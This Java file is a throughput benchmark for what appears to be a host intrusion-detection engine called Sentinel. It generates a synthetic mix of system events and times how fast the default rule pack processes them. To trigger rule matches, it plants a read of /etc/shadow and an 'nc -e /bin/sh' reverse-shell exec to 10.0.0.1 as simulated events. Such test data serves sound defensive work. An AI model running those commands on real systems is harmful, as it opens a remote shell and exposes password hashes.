package io.infrasight.sentinel.internal;

import static io.infrasight.sentinel.internal.Ev.O_CREAT;
import static io.infrasight.sentinel.internal.Ev.O_RDONLY;
import static io.infrasight.sentinel.internal.Ev.O_WRONLY;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.infrasight.api.alert.Alert;
import io.infrasight.api.event.Context;
import io.infrasight.api.event.Event;
import io.infrasight.api.spi.AlertPublisher;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * Events per second through Sentinel with the default pack, one thread (= one core), on a mix
 * shaped like a busy host: mostly opens, then execs, connects, mmaps/mprotects, a few chmods,
 * ptraces and mounts; enriched like the enrichers will; about 0.2 % of events match a rule. Not a
 * unit test: runs only with -Dsentinel.bench=true and prints its figures.
 */
class SentinelThroughputBench {

    static List<Event> mix(int n, long seed) {
        Random r = new Random(seed);
        String[] comms = {"nginx", "java", "postgres", "bash", "python3", "node", "systemd", "cron", "sshd", "curl"};
        String[] paths = {"/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/proc/self/stat",
            "/var/lib/postgresql/15/main/base/16384/2619", "/srv/www/index.html", "/etc/nginx/nginx.conf",
            "/usr/share/zoneinfo/UTC", "/home/app/data/cache.db", "/tmp/upload-123.tmp", "/var/log/nginx/access.log",
            "/sys/fs/cgroup/memory.max", "/etc/passwd", "/dev/null", "/usr/lib/jvm/java-17/lib/modules"};
        Context[] ctx = new Context[8];
        for (int i = 0; i < ctx.length; i++) {
            ctx[i] = Context.EMPTY.with(Map.of("user.name", "u" + i, "container.id", i < 4 ? "host" : "c0ffee" + i,
                    "proc.pname", comms[i], "proc.exe", "/usr/bin/" + comms[i],
                    "proc.ancestors", List.of(Map.of("pid", 1, "comm", "systemd", "exe", "/sbin/init"))));
        }
        List<Event> out = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            String comm = comms[r.nextInt(comms.length)];
            Ev.Proc p = new Ev.Proc(comm, 1000 + r.nextInt(5000), 1, r.nextInt(3) == 0 ? 0 : 1000, ctx[r.nextInt(8)]);
            int k = r.nextInt(1000);
            Event e;
            if (k < 700) {
                String path = paths[r.nextInt(paths.length)];
                int flags = r.nextInt(10) == 0 ? O_WRONLY | O_CREAT : O_RDONLY;
                if (k == 0) {
                    path = "/etc/shadow";   // a match now and then
                }
                e = Ev.open(p, path, flags);
            } else if (k < 850) {
                e = Ev.exec(p, "/usr/bin/" + comm, comm, "-c", "run --flag value " + i % 100);
                if (k == 700) {
                    e = Ev.exec(p.named("nc"), "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444");
                }
            } else if (k < 950) {
                e = Ev.connect(p, 2, "10.0." + r.nextInt(4) + ".7", r.nextBoolean() ? 443 : 5432);
            } else if (k < 980) {
                e = r.nextBoolean() ? Ev.mmap(p, 5, false) : Ev.mprotect(p, 3, false);
            } else if (k < 990) {
                e = Ev.chmod(p, "/srv/www/upload", 0644);
            } else if (k < 995) {
                e = Ev.ptrace(p, 1, "PTRACE_PEEKTEXT", 1);
            } else {
                e = Ev.mount(p, "tmpfs", "/run/user/1000", "tmpfs", 0);
            }
            out.add(e);
        }
        return out;
    }

    @Test
    void eventsPerSecondPerCoreWithTheDefaultPack() throws Exception {
        assumeTrue(Boolean.getBoolean("sentinel.bench"), "benchmark: run with -Dsentinel.bench=true");
        Harness h = new Harness(60_000_000_000L, 100);
        h.loadDefaultPack();
        h.sentinel.recompile();
        List<Event> events = mix(1 << 18, 42);
        List<List<Event>> batches = new ArrayList<>();
        for (int i = 0; i < events.size(); i += 256) {
            batches.add(events.subList(i, i + 256));
        }
        AlertPublisher sink = new AlertPublisher() {
            long n;

            @Override
            public void publish(Alert a) {
                n++;
            }
        };
        int rounds = Integer.getInteger("sentinel.bench.rounds", 10);
        double[] rates = new double[rounds];
        for (int warm = 0; warm < 5; warm++) {
            batches.forEach(b -> h.sentinel.inspect(b, sink));
        }
        for (int round = 0; round < rounds; round++) {
            long cpu0 = threadCpu();
            long t0 = System.nanoTime();
            for (int rep = 0; rep < 4; rep++) {
                batches.forEach(b -> h.sentinel.inspect(b, sink));
            }
            long wall = System.nanoTime() - t0;
            long cpu = threadCpu() - cpu0;
            // per core: divide by the CPU time this thread actually got, not wall time, so that a
            // busy shared machine does not count against the engine
            rates[round] = 4.0 * events.size() / (cpu / 1e9);
            System.out.printf("round %d: %.0f events/s per core (wall %.0f events/s)%n", round, rates[round],
                    4.0 * events.size() / (wall / 1e9));
        }
        Arrays.sort(rates);
        System.out.printf("SENTINEL BENCH: median %.0f events/s per core, min %.0f, max %.0f; %d rules; counters %s%n",
                rates[rounds / 2], rates[0], rates[rounds - 1], h.sentinel.rules().size(), h.sentinel.counters());
        // the same rules without DefaultRulesEngine.fire: what Easy Rules' engine loop costs on top
        io.infrasight.sentinel.internal.lang.Frame f = new io.infrasight.sentinel.internal.lang.Frame();
        var rs = h.sentinel.ruleSet();
        double[] direct = new double[rounds];
        for (int round = 0; round < rounds; round++) {
            long cpu0 = threadCpu();
            long hits = 0;
            for (int rep = 0; rep < 4; rep++) {
                for (Event e : events) {
                    var rules = rs.forKind(e.kind());
                    if (rules == null) {
                        continue;
                    }
                    f.reset(e);
                    for (var r : rules) {
                        if (r.evaluate(f)) {
                            hits++;
                        }
                    }
                }
            }
            direct[round] = 4.0 * events.size() / ((threadCpu() - cpu0) / 1e9);
            if (hits == 0) {
                throw new AssertionError("nothing matched");
            }
        }
        Arrays.sort(direct);
        System.out.printf("SENTINEL BENCH (conditions only, no DefaultRulesEngine, no alerts): median %.0f events/s per core%n",
                direct[rounds / 2]);
        h.sentinel.rules().stream().sorted((a, b) -> Double.compare(b.avgEvalNanos(), a.avgEvalNanos())).limit(8)
                .forEach(ri -> System.out.printf("  %-44s evals %10d avg %6.0f ns%n", ri.id(), ri.evaluations(),
                        ri.avgEvalNanos()));
    }

    private static long threadCpu() {
        return java.lang.management.ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
    }
}
